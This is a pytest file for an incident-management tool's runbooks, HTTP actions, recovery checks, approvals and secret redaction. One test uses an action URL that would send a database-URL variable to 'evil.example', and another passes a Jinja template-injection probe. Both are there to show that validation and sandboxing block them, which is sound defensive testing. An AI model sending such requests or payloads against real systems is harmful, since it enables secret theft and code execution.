"""Runbooks, actions and checks: domain rules, use cases through the bus, and the httpx runner."""

from __future__ import annotations

import json

import httpx
import pytest

from tests.fakes import FakeActionRunner
from tests.unit.test_bus import ALICE, CATALOG, Harness
from tocsin.adapters.action_runner import HttpxActionRunner
from tocsin.domain import commands as c
from tocsin.domain.actions import CheckSpec, HttpCall, HttpOutcome, clean_action, shown_headers
from tocsin.domain.actors import Actor
from tocsin.domain.errors import InvalidInput, InvalidTransition, PermissionDenied
from tocsin.domain.roles import Role
from tocsin.domain.runbooks import Step, parse_steps
from tocsin.domain.severities import Severity
from tocsin.services.action_runs import execute_run, run_check

BOB = Actor("Bob", 2, person_id=2)
OPERATOR = Actor("Operator")


@pytest.fixture
def h() -> Harness:
    harness = Harness()
    harness.bus.handle(CATALOG)
    return harness


def test_steps_are_task_lines_outside_code_with_optional_actions() -> None:
    body = (
        "# Title\n- [ ] First\n* [x] Second, already ticked in the source\n"
        "```\n- [ ] not a step, inside code\n```\n"
        "- plain bullet\n  - [ ] Nested {action: Roll-Back} please\n- [ ] {action: flush}\n"
    )
    assert parse_steps(body) == [
        Step("First"),
        Step("Second, already ticked in the source"),
        Step("Nested please", "roll-back"),
        Step("Run flush", "flush"),
    ]


def test_literal_credentials_are_hidden_but_references_are_shown() -> None:
    assert shown_headers(
        {"Authorization": "Bearer abc", "X-Api-Key": "${KEY}", "Accept": "text/plain"}
    ) == {"Authorization": "[redacted]", "X-Api-Key": "${KEY}", "Accept": "text/plain"}


def _setup(h: Harness, *, approval: bool = False) -> int:
    action = c.ActionSpec(
        "restart", "POST", "https://ops.example/restart", requires_approval=approval
    )
    h.bus.handle(
        c.ImportRunbooks(
            (c.RunbookSpec("r", "R", "- [ ] a {action: restart}\n", actions=(action,)),), OPERATOR
        )
    )
    incident_id: int = h.bus.handle(
        c.DeclareIncident("Checkout down", Severity.P2, ALICE, services=("checkout",))
    )
    return incident_id


def test_a_repeated_check_waits_on_the_clock_and_leaves_evidence(h: Harness) -> None:
    incident_id = _setup(h)
    runner = FakeActionRunner(h.clock)
    runner.answer(*(HttpOutcome(200, 40, "healthy") for _ in range(3)))
    start = h.clock.now()
    check = c.StartCheck(
        incident_id,
        "https://checkout.example/health",
        ALICE,
        expect_body="healthy",
        max_latency_ms=100,
        repeat=3,
        interval=2,
    )
    run_check(h.bus.handle, runner, check)
    assert len(runner.calls) == 3
    assert (h.clock.now() - start).total_seconds() == pytest.approx(3 * 0.04 + 2 * 2)
    assert h.entries(incident_id)[-1] == (
        "Recovery check passed 3/3: GET https://checkout.example/health → 200"
    )


def test_a_check_stops_at_the_first_failed_attempt(h: Harness) -> None:
    incident_id = _setup(h)
    runner = FakeActionRunner(h.clock)
    runner.answer(
        HttpOutcome(200, 40, "ok"), HttpOutcome(200, 900, "ok"), HttpOutcome(200, 1, "ok")
    )
    check = c.StartCheck(
        incident_id, "https://x.example/", ALICE, max_latency_ms=500, repeat=3, interval=1
    )
    run_check(h.bus.handle, runner, check)
    assert len(runner.calls) == 2
    assert h.entries(incident_id)[-1] == (
        "Recovery check failed on attempt 2 of 3 (1 passed): GET https://x.example/ → 200: "
        "took 900 ms, over the 500 ms bound"
    )


def test_approval_and_authority_through_the_bus(h: Harness) -> None:
    incident_id = _setup(h, approval=True)
    h.bus.handle(c.AssignRole(incident_id, Role.INCIDENT_COMMANDER, "alice", OPERATOR))
    runner = FakeActionRunner()
    with pytest.raises(
        PermissionDenied, match="needs the Incident Commander \\(Alice\\) or Technical Lead"
    ):
        h.bus.handle(c.RequestActionRun(incident_id, "restart", BOB))
    h.bus.handle(c.AssignRole(incident_id, Role.TECHNICAL_LEAD, "bob", OPERATOR))
    run_id = h.bus.handle(c.RequestActionRun(incident_id, "restart", BOB))
    with pytest.raises(InvalidTransition, match="not ready to run"):
        execute_run(h.bus.handle, runner, incident_id, run_id, BOB)
    with pytest.raises(
        PermissionDenied, match="approving the action restart on INC-1 needs the Incident Commander"
    ):
        h.bus.handle(c.ApproveActionRun(incident_id, run_id, BOB))
    assert runner.calls == []
    h.bus.handle(c.ApproveActionRun(incident_id, run_id, ALICE))
    execute_run(h.bus.handle, runner, incident_id, run_id, ALICE)
    assert [call.url for call in runner.calls] == ["https://ops.example/restart"]
    assert runner.calls[0].variables["reference"] == "INC-1"
    assert h.entries(incident_id)[-3:] == [
        "Action requested: restart (POST https://ops.example/restart) — awaiting the Incident Commander's approval",
        "Action approved: restart (requested by Bob)",
        "Action restart succeeded: HTTP 200 in 5 ms",
    ]


def test_a_refused_import_writes_nothing(h: Harness) -> None:
    good = c.RunbookSpec("good", "Good", "- [ ] x\n")
    bad = c.RunbookSpec(
        "bad", "Bad", "- [ ] x\n", actions=(c.ActionSpec("a", "POST", "ftp://nope"),)
    )
    with pytest.raises(InvalidInput, match="bad: action 'a': url must start with http"):
        h.bus.handle(c.ImportRunbooks((good, bad), OPERATOR))
    assert h.store.runbook_data.runbooks == {} and h.store.runbook_data.actions == {}


def _runner(environ: dict[str, str]) -> tuple[HttpxActionRunner, list[httpx.Request]]:
    seen: list[httpx.Request] = []

    def echo(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(
            200, json={"headers": dict(request.headers), "body": request.content.decode()}
        )

    return HttpxActionRunner(environ, httpx.MockTransport(echo)), seen


def test_the_runner_renders_the_body_and_redacts_every_secret_value() -> None:
    runner, seen = _runner(
        {"TOCSIN_SECRET_TOKEN": "tok-123456", "TOCSIN_SECRET_HOST": "ops.example"}
    )
    call = HttpCall(
        "POST",
        "https://${TOCSIN_SECRET_HOST}/flags?key=${TOCSIN_SECRET_TOKEN}",
        {"Authorization": "Bearer ${TOCSIN_SECRET_TOKEN}", "X-Literal-Secret": "lit-999999"},
        '{"incident": "{{ reference }}", "services": {{ services|tojson }}}',
        5,
        {"reference": "INC-7", "services": ["checkout"]},
    )
    outcome = runner.execute(call)
    assert seen[0].url == "https://ops.example/flags?key=tok-123456"
    assert seen[0].headers["authorization"] == "Bearer tok-123456"
    assert json.loads(seen[0].content) == {"incident": "INC-7", "services": ["checkout"]}
    assert outcome.status_code == 200
    assert "tok-123456" not in outcome.body and "lit-999999" not in outcome.body
    assert "ops.example" not in outcome.body  # every resolved reference is a secret
    assert "Bearer [redacted]" in outcome.body


def test_the_runner_reports_template_and_secret_problems_without_calling() -> None:
    runner, seen = _runner({})
    missing = runner.execute(HttpCall("POST", "https://x/${TOCSIN_SECRET_NOPE}", {}, "", 5, {}))
    assert missing == HttpOutcome(
        None, 0, error="the environment variable TOCSIN_SECRET_NOPE is not set"
    )
    broken = runner.execute(HttpCall("POST", "https://x/", {}, "{{ nothing.here }}", 5, {}))
    assert broken.status_code is None and "the body template failed" in broken.error
    sandboxed = runner.execute(
        HttpCall("POST", "https://x/", {}, "{{ ''.__class__.__mro__ }}", 5, {})
    )
    assert sandboxed.status_code is None and "the body template failed" in sandboxed.error
    assert seen == []


def test_actions_may_only_use_action_secrets_and_checks_none() -> None:
    with pytest.raises(InvalidInput, match=r"\$\{TOCSIN_DATABASE_URL\} is not an action secret"):
        clean_action("leak", "GET", "https://evil.example/?d=${TOCSIN_DATABASE_URL}")
    with pytest.raises(InvalidInput, match=r"headers\.X-Key"):
        clean_action("leak", "GET", "https://ok.example/", headers={"X-Key": "${HOME}"})
    with pytest.raises(InvalidInput, match="body"):
        clean_action("leak", "POST", "https://ok.example/", body="${PATH}")
    fine = clean_action("ok", "GET", "https://ok.example/", headers={"A": "${TOCSIN_SECRET_A}"})
    assert fine.headers == {"A": "${TOCSIN_SECRET_A}"}
    with pytest.raises(InvalidInput, match="cannot use"):
        CheckSpec(url="https://ok.example/?k=${TOCSIN_SECRET_A}")
    # A definition stored before the rule still cannot reach other variables at run time.
    runner = HttpxActionRunner({"TOCSIN_DATABASE_URL": "postgresql://secret"})
    outcome = runner.execute(HttpCall("GET", "https://x/${TOCSIN_DATABASE_URL}", {}, "", 5, {}))
    assert outcome.error == "TOCSIN_DATABASE_URL is not an action secret (TOCSIN_SECRET_…)"


def test_only_admins_define_actions(h: Harness) -> None:
    spec = c.ActionSpec("flag-off", "POST", "https://flags.example/off", requires_approval=False)
    responder = Actor("Rita", user_id=7, person_id=7)
    with pytest.raises(PermissionDenied, match=r"defining actions .* needs an admin"):
        h.bus.handle(c.SaveAction(spec, responder))
    book = c.RunbookSpec("x", "X", "- [ ] step", actions=(spec,))
    with pytest.raises(PermissionDenied, match="needs an admin"):
        h.bus.handle(c.ImportRunbooks((book,), responder))
    h.bus.handle(c.ImportRunbooks((c.RunbookSpec("x", "X", "- [ ] step"),), responder))
    h.bus.handle(c.SaveAction(spec, Actor("Ada", user_id=8, admin=True)))
